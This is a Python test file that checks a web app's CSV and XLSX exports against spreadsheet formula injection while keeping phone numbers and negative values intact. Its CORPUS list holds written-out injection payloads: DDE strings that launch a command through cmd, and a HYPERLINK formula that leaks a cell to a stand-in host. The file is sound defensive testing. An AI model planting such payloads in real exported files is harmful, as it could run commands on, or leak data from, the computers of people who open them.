"""Threat 16: what people and companies write never runs in a shop's spreadsheet; phone numbers stay unharmed."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kliento.web.tables import csv_of, defused, xlsx_of

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+cmd",
    "－1+cmd",
    "＠SUM(1)",
    " ＝1+1",
    "Aino,=1+1",
    "Aino;=1+1",
    "Aino|=1+1",
    "Aino\t=1+1",
    "Aino\n=1+1",
    'Aino";=1+1',
    '"=1+1"',
    "Aino; \t＠SUM(1)",
    "+358 40 123 4567;=1+1",
    "+cmd",
    "-cmd",
    "--1",
    "+",
    "-",
    "=",
    "@",
]
UNHARMED = [
    "+358 40 123 4567",
    "+358401234567",
    "+46 70-123 45 67",
    "+1 (201) 555-0123",
    "040 123 4567",
    "-12",
    "-12,50",
    "-0.5",
    "Aino",
    "Annankatu 27 B 4",
    "aino@example.fi",
    "Café = koti",
    "50 % alennus",
    "1-2 kertaa viikossa",
    "",
    " ",
    "Aino, +358 40 123 4567",
]
RUNS = re.compile(r"[\s\u200b-\u200f\u202a-\u202e\u2060\ufeff]*[=+\-@＝＋－＠]")
# A number, alone or glued to the quoted cell behind it by a program that reads with another separator.
HARMLESS = re.compile(r"\s*([+]\d[\d ()./-]*|-\d+([.,]\d+)?)\s*([,;]\".*)?")


def read_csv(page: bytes, separator: str) -> list[list[str]]:
    """As a spreadsheet reads it that takes `separator` for the separator, and line ends as they come."""
    return list(csv.reader(io.StringIO(page.decode("utf-8-sig"), newline=""), delimiter=separator))


def running(cells: list[list[str]]) -> list[str]:
    return [cell for row in cells for cell in row if RUNS.match(cell) and not HARMLESS.fullmatch(cell)]


@pytest.mark.parametrize("separator", [",", ";"])
@pytest.mark.parametrize("read_with", [",", ";", "\t", "|"])
def test_no_cell_of_a_csv_runs_whichever_separator_it_is_read_with(separator: str, read_with: str) -> None:
    page = b"".join(csv_of(["Name", "=Note"], [[text, f"Aino {text}"] for text in CORPUS], separator=separator))

    assert running(read_csv(page, read_with)) == []


@given(st.lists(st.text(alphabet="=+-@＝＋－＠ \t\r\n,;|\"'\u200b\ufeffaA1(", max_size=12), min_size=1, max_size=4))
def test_no_text_runs_however_it_is_made(texts: list[str]) -> None:
    page = b"".join(csv_of(["Name"], [texts], separator=";"))

    assert [running(read_csv(page, read_with)) for read_with in (",", ";", "\t", "|")] == [[], [], [], []]


@pytest.mark.parametrize("text", UNHARMED)
def test_numbers_of_phones_and_below_zero_and_plain_words_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


def test_a_workbook_holds_texts_as_texts_and_numbers_as_numbers() -> None:
    texts = [text for text in [*CORPUS, *UNHARMED, "_x0041_", "<b>&amp;</b>", "\x00\x07", "😀"] if text]
    book = b"".join(xlsx_of(["=Name", "Visits"], [[text, place] for place, text in enumerate(texts)]))
    sheet = load_workbook(io.BytesIO(book))["Kliento"]

    for place, (text, (cell, number)) in enumerate(zip(texts, sheet.iter_rows(min_row=2), strict=True)):
        assert (cell.data_type, number.data_type, number.value) == ("s" if cell.value is not None else "n", "n", place)
        kept = text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00\x07", "\ufffd\ufffd")
        assert (cell.value or "").replace("_x005F_", "_") == kept
    parts = zipfile.ZipFile(io.BytesIO(book))
    sheet_text = parts.read("xl/worksheets/sheet1.xml")
    assert {b"<f", b"<hyperlink"} & set(re.findall(rb"<\w+", sheet_text)) == set()
    assert not any(
        "hyperlink" in name or b"hyperlink" in parts.read(name) for name in parts.namelist() if name[0] != "x"
    )
